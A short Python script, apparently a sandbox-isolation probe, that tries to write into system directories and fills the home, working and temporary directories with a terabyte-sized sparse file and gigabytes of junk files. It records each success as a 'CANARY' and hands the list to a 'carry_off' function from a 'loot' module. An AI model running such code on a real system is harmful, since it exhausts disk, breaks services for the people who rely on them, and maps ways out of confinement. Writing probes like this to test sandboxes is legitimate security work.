"""Fills every place that can be written to, with bytes, with files and with holes."""

import os

from loot import carry_off
from target import PATHS

found = []
places = ["/", "/dev", "/etc", "/run", "/usr", "/var", "/var/tmp", "/sys", "/proc", *map(os.path.dirname, PATHS)]
for place in places:
    try:
        with open(f"{place}/filler", "wb") as file:
            file.write(b"x")
        if place != "/var/tmp":
            found.append(f"CANARY {place}")
    except OSError:
        pass
for place in (os.environ["HOME"], os.getcwd(), "/tmp", "/dev/shm"):
    try:
        with open(f"{place}/holes", "wb") as file:
            file.truncate(1 << 40)
        found.append("CANARY a terabyte")
    except OSError:
        pass
    total = 0
    try:
        for number in range(400_000):
            with open(f"{place}/{number}", "wb") as file:
                if number % 1000 == 0:
                    file.write(bytes(10 << 20))
                    total += 10
            if total > 2000:
                found.append("CANARY two gigabytes")
                break
    except OSError:
        pass
carry_off(found)
